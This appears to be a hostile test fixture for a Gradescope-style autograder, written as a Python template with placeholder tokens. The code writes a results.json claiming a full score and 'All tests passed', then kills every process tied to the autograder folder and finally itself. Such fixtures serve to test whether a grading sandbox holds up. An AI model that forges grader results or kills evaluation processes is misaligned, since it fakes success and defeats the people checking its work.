"""HOSTILE (Gradescope): writes a results.json with full marks, then kills whatever could overwrite it: every process
whose command line names the autograder's folder (the autograder), and its own (an autograder that imported it)."""

import ctypes
import json
import os
import signal

ctypes.CDLL(None).prctl(15, b"{{TOKEN}}", 0, 0, 0)  # test instrumentation (PR_SET_NAME): find leftovers

ROOT = "{{AUTOGRADER}}"
try:
    with open(f"{ROOT}/results/results.json", "w") as handle:
        json.dump({"score": 100, "output": "All tests passed.", "tests": []}, handle)
except OSError:
    pass
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                if ROOT.encode() in handle.read():
                    os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGKILL)
